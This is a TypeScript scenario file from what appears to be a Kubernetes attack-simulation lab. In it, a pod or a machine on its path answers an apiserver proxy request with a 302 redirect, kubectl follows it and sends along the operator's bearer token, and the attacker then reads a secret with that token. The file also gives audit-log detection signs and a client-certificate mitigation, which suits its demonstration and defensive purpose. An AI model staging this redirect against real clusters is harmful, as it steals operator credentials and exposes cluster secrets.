import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { KubeClient } from '../../client/kube-client';
import { addresses, ports, webPodAddress } from '../addresses';
import { randomCanaries } from '../canaries';
import { clientOn } from './client-on';
import type { Scenario } from './scenario';
import { plantSecret, readSecret } from './secret-of-pod';

const PAGE = '/api/v1/namespaces/default/pods/web:8080/proxy/';

export const redirectStealsToken: Scenario = {
  id: 'redirect-steals-token',
  title: 'a page behind the apiserver that sends kubectl away, with its token',
  story:
    'An operator looks at a page of a pod through the apiserver. Whoever answers for the pod, its owner or a machine on the path, answers 302 with an address of his own. The apiserver never showed him the operator’s token; but it hands the redirect on, kubectl follows it to any host, even without TLS, and client-go puts the token into whatever request has none. No flag of the apiserver changes that, and that kubectl verifies the apiserver is of no use.',
  needs:
    'Whoever answers for the pod: its owner, or a place on the path to it. An operator who looks at it through the apiserver.',
  evidence:
    'The operator’s token arrives at the attacker’s own address, and the genuine apiserver says whose it is; with a client certificate he comes with nothing.',
  attack: ['T1528'],
  setting: {
    name: 'what the operator’s kubeconfig logs in with',
    open: 'users[].user.token',
    fixed: 'users[].user.client-certificate-data: it cannot be taken along, its key stays at home',
  },
  notice:
    'In the audit log: get pods/proxy (or services/proxy, nodes/proxy) with responseStatus.code 302, and soon after one authentication.kubernetes.io/credential-id from an address that was never seen with it. At the operator’s machine: kubectl connects to something that is not the apiserver.',
  sources: [
    'k8s.io/apimachinery pkg/util/proxy/transport.go (rewriteURL leaves foreign hosts alone)',
    'k8s.io/client-go transport/round_trippers.go (bearerAuthRoundTripper)',
    'net/http client.go (Do, shouldCopyHeaderOnRedirect)',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster();
    const { attackerHost, controlPlane, workstation, credentials, pki } = cluster;
    const { signal } = stage;
    const secret = await plantSecret(stage, cluster, { name: 'db', spec: {} });
    await stage.did('admin', 'kubectl create secret generic db …', 'secret/db created');

    const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
    const login =
      twin === 'open'
        ? { token: await credentials.token({ namespace: 'ops', name: 'operator', rules }) }
        : { clientCertificate: pki.admin };
    await using operator = new KubeClient({
      from: workstation,
      server: { host: addresses.controlPlane, port: ports.apiserver },
      trust: cluster.clientTrust(addresses.controlPlane),
      ...login,
    });

    const web = { address: webPodAddress, port: ports.web };
    const position = neighbour(controlPlane, attackerHost, web.address);
    const { forged, tampered } = randomCanaries();
    await using attack = await new Attacker({ host: attackerHost }).attack({
      technique: 'redirect',
      targets: [web],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
    });
    await stage.did('attacker', 'answers for pod web: HTTP/1.1 302 Found', position.describe());

    const page = await operator.raw({ method: 'GET', path: PAGE, signal });
    const look = `kubectl get --raw ${PAGE}`;
    await attack.withdraw();
    const [sent] = attack.loot.redirects;
    const token = attack.loot.credentials[0]?.value;
    await stage.did('operator', look, page.ok ? page.stdout.toString('utf8').trim() : page.words);
    const wait = `waits at ${sent?.location.replace(/\/api\/.*|:\d+.*/, '') ?? 'an address of its own'}`;
    const who = sent?.followedBy?.split(' ')[0] ?? 'nobody';
    if (token === undefined) await stage.refused('attacker', wait, `${who} came, without a token`);
    else {
      const saw = `${who} came: Authorization: Bearer ${token.slice(0, 24)}…`;
      await stage.gained('attacker', wait, saw, 'the operator’s token, in clear');
    }

    await using thief = clientOn(attackerHost, cluster, token === undefined ? {} : { token });
    const read = `kubectl${token === undefined ? '' : ' --token=…'} get secret db -o jsonpath={.data.password}`;
    const password = await readSecret(thief, secret.name, signal);
    if (secret.isIn(password.text)) {
      await stage.gained('attacker', read, password.text, 'what the operator may read: secret/db');
    } else await stage.refused('attacker', read, password.text);
  },
};
